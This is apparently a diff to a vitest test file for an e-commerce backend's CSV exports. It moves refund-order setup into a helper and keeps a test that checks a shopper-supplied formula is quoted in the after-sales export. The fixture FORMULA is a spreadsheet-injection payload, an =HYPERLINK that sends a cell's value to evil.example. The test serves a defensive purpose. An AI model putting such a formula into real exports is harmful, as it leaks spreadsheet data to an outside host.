@@ -8,14 +8,12 @@ import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import type { Database } from "../server/db";
 import { inTx, type Ctx } from "../server/context";
 import { registerMember } from "../server/referral";
-import { confirmPayment, createOrder, shipOrder } from "../server/orders";
-import { requestRefund } from "../server/aftersales";
-import { createSimpleProduct } from "../server/catalog/admin";
 import { exportDefinition } from "../server/exports/registry";
 import { csvCell, csvStream, csvText } from "../server/exports/csv";
 import { exportFile, queueExport, runQueuedExports } from "../server/exports/jobs";
 import { LocalDiskStorage } from "../server/storage";
 import { freshPglite } from "./helpers/db";
+import { shippedOrderWithRefundRequest } from "./helpers/aftersales";
 
 const FORMULA = '=HYPERLINK("https://evil.example/?d="&C2,"查看")';
 
@@ -67,13 +65,7 @@ describe("exports", () => {
   }
 
   it("after-sales: a shopper's formula in the refund description comes out quoted", async () => {
-    await database.prisma.category.create({ data: { slug: "tea", name: "茗茶" } });
-    await createSimpleProduct(database.prisma, { sku: "tea", name: "龙井", priceFen: 12_345, category: "tea", stock: 10 });
-    const buyer = (await run((ctx) => registerMember(ctx, { username: "buyer", nickname: "买家甲", ip: "1.1.1.1", device: "d" }))).id;
-    const order = await run((ctx) => createOrder(ctx, { memberId: buyer, lines: [{ sku: "tea", qty: 1 }], address: "地址" }));
-    await run((ctx) => confirmPayment(ctx, { orderId: order.id, provider: "sandbox", providerTxnId: `SBX-${order.id}`, amountFen: order.payableFen, currency: "CNY" }));
-    await run((ctx) => shipOrder(ctx, order.id));
-    await run((ctx) => requestRefund(ctx, buyer, order.id, { reason: "other", detail: FORMULA }));
+    await shippedOrderWithRefundRequest(database, { reason: "other", detail: FORMULA });
     const lines = (await csvOf("after-sales", "")).slice(1).trim().split("\n");
     expect(lines).toHaveLength(2);
     // csv-stringify doubles the quotes inside and wraps the cell; the cell's text starts with '.
